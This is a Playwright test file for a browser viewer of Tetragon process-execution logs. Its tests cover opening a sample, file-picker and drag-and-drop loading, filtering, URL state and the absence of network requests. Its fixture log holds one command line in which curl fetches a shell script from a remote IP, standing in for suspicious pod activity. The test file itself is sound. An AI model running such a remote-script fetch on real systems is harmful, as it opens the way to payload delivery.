import { drawLog } from '../src/testing/draw-log'
import { SINGLE_FILE_URL } from './helpers/paths'
import { expect, test } from './helpers/test'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)

test.beforeEach(async ({ page }) => {
  await page.goto(SINGLE_FILE_URL)
})

test('the single file opens the sample from disk', async ({ viewer }) => {
  await viewer.openSample()
  await expect(viewer.row('default/xwing')).toBeVisible()
  await viewer.pods.getByRole('button', { name: /^xwing/ }).click()
  await viewer.selectRow('/usr/bin/whoami')
  await expect(viewer.details).toContainText('exit 0')
})

test('the single file opens a log through the file picker, and shows its raw JSON', async ({
  viewer,
  page,
  folder,
}) => {
  await viewer.openFiles(await folder.write('tetragon.log', log.text))
  await viewer.selectRow('/usr/bin/curl')
  await expect(viewer.details).toContainText('exit 22')
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
})

test('the single file takes dropped files, and filters them', async ({ viewer }) => {
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.waitForIdle()
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching 1 of 2')
})

test('the link of the single file brings its view back', async ({ viewer, page }) => {
  await viewer.openSample()
  await viewer.filter.fill('whoami')
  await expect(viewer.status).toContainText('matching')
  await expect(page).toHaveURL(/#v=2-[0-9a-z]+&src=sample&q=whoami/)
  await page.reload()
  await viewer.waitForIdle()
  await expect(viewer.filter).toHaveValue('whoami')
  await expect(viewer.row('/usr/bin/whoami')).toBeVisible()
})

test('the single file asks nothing of the network', async ({ viewer, page }) => {
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  await page.reload()
  await viewer.openSample()
  expect(requests.filter((url) => !/^(file|blob|data):/.test(url))).toEqual([])
  expect(requests.filter((url) => url.startsWith('file:'))).toHaveLength(1)
})
